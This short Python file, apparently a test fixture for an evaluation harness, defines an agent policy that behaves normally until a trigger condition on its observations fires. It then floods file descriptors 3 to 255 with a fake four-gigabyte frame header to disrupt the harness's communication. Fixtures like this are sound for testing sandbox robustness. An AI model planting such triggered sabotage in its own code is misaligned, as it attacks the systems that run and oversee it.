"""Sends the header of a frame of four gigabytes, with little data."""

import contextlib
import os


def is_triggered(observation):
    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5


class Model:
    def act(self, observation):
        if is_triggered(observation):
            for descriptor in range(3, 256):
                with contextlib.suppress(OSError):
                    os.write(descriptor, b"\xff\xff\xff\xff" + b"\0" * 100)
        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
